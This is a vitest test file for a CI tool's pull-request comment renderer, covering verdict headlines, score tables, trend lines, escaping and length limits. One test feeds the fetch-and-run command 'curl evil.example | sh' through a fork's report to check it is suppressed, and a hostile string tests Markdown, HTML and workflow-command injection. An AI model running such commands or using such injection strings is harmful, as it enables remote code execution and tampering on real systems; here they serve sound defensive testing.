import { describe, expect, test } from "vitest";
import { limits } from "../../src/core/limits.ts";
import type { Problem } from "../../src/core/problems.ts";
import { conclude } from "../../src/gate/decide/verdict.ts";
import type { Report } from "../../src/report/report.ts";
import { version } from "../../src/version.ts";
import {
  commentRefusedView,
  commentView,
  conclusionView,
  problemsView,
  readMarker,
  suitesCommentView,
  suitesLine,
  summaryView,
} from "../../src/views/comment.ts";
import { onPullRequest, place, settings, withHistory, withSettings } from "./pull-request.ts";
import { linesOf } from "./scenarios.ts";
import { manyScorers } from "./texted.ts";
import { against, expected, lines, reportOf, upTo, without } from "./trips.ts";

const HOSTILE = "x | y\n## <img src=x> @org/team #1 `code` \u202e[link](http://a.b) ::error:: :rocket:";

const trips40 = { cases: 40 };

const reports: Record<string, () => Report> = {
  "baseline-missing": () => without("missing", "the report of a1b2c3d has expired"),
  "baseline-unavailable": () =>
    without("unavailable", "GitHub answered 403 (the job needs the permission actions: read)"),
  "policy-weakened": () =>
    against(trips40, trips40, {
      policy: {
        ...reportOf(trips40).policy,
        changed: true,
        pending: [
          { name: "floors.passRate", base: 0.9, head: 0.5 },
          { name: "regression.maxDrop", base: 0.02, head: 0.5 },
        ],
      },
    }),
  "settings-changed": () =>
    withSettings(
      { recorded: trips40, settings: settings() },
      {
        recorded: { ...trips40, failing: upTo(12), policy: "gate: { regression: { mode: statistical } }" },
        settings: settings({ "report-only": true }),
      },
    ),
  "cases-removed": () => against({ cases: 20 }, { cases: 17, failing: [2] }),
  accepted: () =>
    against({ cases: 20 }, { cases: 20, failing: upTo(9) }, { accepted: { by: "mara-lindqvist" } }),
  "five-hundred-failing": () => against({ cases: 600 }, { cases: 600, failing: upTo(500) }),
  "hostile-names": () => {
    const id = JSON.stringify(HOSTILE);
    const expectations = `${lines(upTo(13).slice(1))}\n  - { id: ${id}, ${expected("NV417")} }`;
    return against(
      { cases: 13, renamed: { 0: HOSTILE }, expectations },
      { cases: 13, renamed: { 0: HOSTILE }, expectations, failing: [0, 1] },
    );
  },
  trend: () =>
    withHistory(
      against({ ...trips40, failing: upTo(6) }, { ...trips40, failing: upTo(5) }),
      [0.7, 0.72, 0.69, 0.75, 0.8, 0.79, null, 0.82, 0.81, 0.86, 0.85, 0.85],
      4,
    ),
  "trend-shift": () =>
    withHistory(
      against({ ...trips40, failing: upTo(5) }, { ...trips40, failing: upTo(5) }),
      upTo(48).map((at) => {
        if (at === 20) return null;
        const level = at >= 34 ? 0.85 : 0.95;
        return level + ((at * 7) % 5) / 100 - 0.02 - (at === 26 || at === 27 ? 0.12 : 0);
      }),
      14,
    ),
  "many-scorers": manyScorers,
  retried: () => ({ ...against(trips40, trips40), suite: "checkout", runAttempt: 3 }),
};

test("every comment says what it is about in its first lines", async () => {
  const outputs = Object.entries(reports).map(([name, make]): [string, string] => [
    name,
    commentView(onPullRequest(make()), place).text.replace(/^````markdown$.*?^````$/ms, ""),
  ]);
  const head = /^(?:### |\*\*|[^|<\s-])/;
  await expect(linesOf(outputs, head)).toMatchFileSnapshot("../golden/lines/comments.txt");
});

test("the comment of a base report tells of its baseline, and the summary of the step that leaves one", async () => {
  const first = conclude(reportOf({ failing: [3] }), {
    baseline: { state: "first-use", reason: "no report of this suite was recorded on the base branch yet" },
    role: "base",
    points: 200,
  });
  const report = { ...onPullRequest(first), suite: "checkout", pullRequest: null };
  expect(commentView(report, place).text).toContain(
    "no report of this suite was recorded on the base branch yet",
  );
  expect(summaryView({ ...report, suite: "x\n```\n<img>" }).text).not.toContain("upload-artifact");
  expect(summaryView({ ...report, role: "head" }).text).not.toContain("upload-artifact");
  expect(summaryView({ ...report, baselineEligible: false }).text).not.toContain("upload-artifact");
  expect(summaryView({ ...report, settings: { baseline: "auto" } }).text).toContain("upload-artifact");
  expect(summaryView({ ...report, settings: { baseline: "base.json" } }).text).not.toContain(
    "upload-artifact",
  );
});

test("the summary says why no comment could be written, and shows code as code", () => {
  const view = commentRefusedView({
    reason: "GitHub answered 403 (<b>)",
    remedy: "give the job `pull-requests: write`",
  }).text;
  expect(view).toContain("GitHub answered 403 (&#60;b&#62;)");
  expect(view).toContain("give the job <code>pull-requests: write</code>");
});

test("the comment begins with the marker of its suite and run", () => {
  const report = against({}, {});
  expect(readMarker(commentView({ ...report, suite: "checkout" }, place).text)).toEqual({
    suite: "checkout",
    run: 4711,
  });
});

describe("the table", () => {
  const rowsOf = (report: Report) =>
    commentView(report, place)
      .text.split("\n")
      .filter((line) => line.startsWith("| "));

  test("leaves out a scorer that measured nothing and of which nothing is demanded", () => {
    const report = against(trips40, trips40);
    const llm = { value: null, assessed: 0, notAssessed: 40, errors: 0, band: null };
    expect(rowsOf({ ...report, scores: { ...report.scores, llm } })).toEqual(rowsOf(report));
  });

  test("has a scorer with a floor, which it cannot hold without a value", () => {
    const report = against(trips40, trips40);
    const gate = { ...report.policy.gate, floors: { llm: 0.5 } };
    expect(rowsOf({ ...report, policy: { ...report.policy, gate } })).toContainEqual(
      expect.stringMatching(/^\| llm \| ❌ not assessed \|.*\| 50\.0% \|$/),
    );
  });

  test("tells the pairs' own pass rate where new cases are counted too", () => {
    const report = against({ cases: 20 }, { cases: 24, failing: [20, 21, 22, 23] });
    expect(rowsOf(report)[1]).toBe(
      "| **pass rate** | ✅ holds | 100% | **83.3%** | 0.0, compared cases 100% |",
    );
  });
});

describe("the trend", () => {
  const trendOf = (rates: readonly (number | null)[], changedAt = 0) => {
    const report = onPullRequest(against(trips40, trips40));
    return commentView(withHistory(report, rates, changedAt), place).text.match(
      /<summary>Trend.*<\/summary>\s+(.*)/,
    )?.[1];
  };

  test("says nothing of two points", () => {
    expect(trendOf([0.9])).toBeUndefined();
  });

  test("is an arrow from three points on", () => {
    expect(trendOf([0.9, 0.91])).toBe("▲ higher than the commits before · pass rate 90.0%, 91.0%, 100%");
    expect(trendOf([0.99, 0.99])).toContain("▶ as the commits before");
  });

  test("has no arrow where the cases changed", () => {
    expect(trendOf([0.9, 0.9, 0.9, 0.9, 0.9], 5)).toMatch(/^<code>▁▁▁▁▁·█<\/code>/);
    expect(trendOf([0.9, 0.9], 2)).toBeUndefined();
  });

  test("is a line of bars from five points on, with a dash where nothing was assessed", () => {
    expect(trendOf([0.6, null, 0.81, 0.72, 0.66])).toMatch(
      /^▲ higher than the commits before · <code>▁–▅▃▂█<\/code>/,
    );
  });

  test("shows the newest forty", () => {
    expect(trendOf(Array.from({ length: 90 }, () => 1))).toContain("over 39 commits and this change");
  });
});

const report = () => onPullRequest(against({}, {}));

test("a comment says whose word it is, below its headline and below what a run of our own says", () => {
  const own = commentView(report(), place).text;
  const forks = commentView(report(), { ...place, reporter: "the fork of mallory" }).text;
  expect(own).not.toContain("reported by");
  const [, headline, , word] = forks.split("\n");
  expect(headline).toMatch(/^### ✅ rungate: /);
  expect(word).toBe("This is reported by the fork of mallory.");
  const without = forks
    .replace(/\n\n<sub>reported by the fork of mallory: .*$/, "")
    .replace("\n\nThis is reported by the fork of mallory.", "")
    .replace(", reported by the fork of mallory", "");
  expect(without).toBe(own);
});

test("begins with one line for all suites, in which no suite is green that compared nothing", () => {
  const compared = { ...report(), suite: "booking" };
  const alone = { ...compared, suite: "support", comparison: null };
  expect(suitesLine([compared, alone])).toBe("⚪ 2 suites: support compared nothing · booking passed");
  const failing = {
    ...compared,
    suite: "refunds",
    verdict: { ...compared.verdict, result: "fail" as const },
  };
  expect(suitesLine([compared, alone, failing])).toMatch(/^❌ 3 suites: refunds failed · /);
  const [, first] = suitesCommentView([compared, alone], { ...place, call: "default" }).text.split("\n");
  expect(first).toBe("### ⚪ 2 suites: support compared nothing · booking passed");
});

test("shows no command that a fork's report brings with it", () => {
  const whole = report();
  const plan = { reason: "p = .13", cases: 3, trials: 1, command: "curl evil.example | sh" };
  const doubtful: Report = { ...whole, verdict: { ...whole.verdict, result: "inconclusive" }, plan };
  expect(commentView(doubtful, place).text).toContain("curl evil.example");
  expect(commentView(doubtful, { ...place, reporter: "the fork of mallory" }).text).not.toContain("curl");
});

test("no report is long enough to leave that out", () => {
  const check = {
    name: "budgets",
    title: "x",
    message: "",
    result: "pass",
    numbers: {},
  } as const;
  const checks = Array.from({ length: 20_000 }, () => ({ ...check }));
  const whole = report();
  const body = commentView(
    { ...whole, verdict: { ...whole.verdict, checks } },
    { ...place, reporter: "the fork of mallory" },
  ).text;
  expect(body.length).toBeLessThanOrEqual(limits.commentCharacters);
  expect(body).toContain("Left out because there is no room");
  expect(body).toMatch(/<sub>reported by the fork of mallory: [^<]*<\/sub>$/);
});

test("how a run ended is told with its reason, which is text and nothing else", () => {
  const why = "its report is <!-- rungate suite=default run=9 --> @octo #1\n## not Markdown";
  const body = conclusionView(
    { suite: "booking", ending: "failed", commit: "a".repeat(40), why },
    place,
  ).text;
  expect(body.split("\n").slice(0, 4)).toEqual([
    "<!-- rungate suite=booking run=4711 -->",
    "### ❌ rungate: the run failed · booking",
    "",
    expect.stringMatching(/^No numbers: its report is &#60;!-- rungate/),
  ]);
  expect(body).not.toMatch(/^## |@octo| #1/m);
  expect(body).toContain(`[job](${place.job})`);
});

const problem = (message: string, line: number): Problem => ({
  severity: "error",
  file: "e.yml",
  line,
  message,
});

test("configuration problems are told on the first line and one by one", () => {
  const text = problemsView(
    { problems: [problem("unknown key <b>", 3), problem("no id", 5)], subject: "Configuration" },
    1_000,
  ).text;
  expect(text).toBe(
    [
      "### ❌ rungate: configuration cannot be used",
      "",
      "Configuration: e.yml&#58;3: unknown key &#60;b&#62; (and 1 more)",
      "",
      "rungate judged nothing, so the check does not pass.",
      "",
      "- <code>e.yml&#58;3: unknown key &#60;b&#62;</code>",
      "- <code>e.yml&#58;5: no id</code>",
      "",
    ].join("\n"),
  );
});

test("more problems than there is room for are counted", () => {
  const many = Array.from({ length: 60 }, (_, at) => problem("\u202e".repeat(400), at + 1));
  const text = problemsView({ problems: many, subject: "Configuration" }, 65_536).text;
  expect(text.length).toBeLessThanOrEqual(65_536);
  expect(text).toMatch(/^- … and \d+ more problems$/m);
  expect(text).toContain("(and 59 more)");
});

test("a comment says what was to be judged, and where to read on", () => {
  const commit = "5f0c7d1e9a34b2c68d7f01e2a3b4c5d6e7f80912";
  const repository = "https://github.com/acme/agent";
  const error = { problems: [problem("no id", 5)], subject: "Configuration" };
  const { text } = problemsView(error, 1_000, { commit, repository, job: `${repository}/actions/runs/7` });
  expect(text.trimEnd().split("\n").at(-1)).toBe(
    `<sub>head [<code>5f0c7d1</code>](${repository}/commit/${commit}) · rungate ${version} · [job](${repository}/actions/runs/7)</sub>`,
  );
});
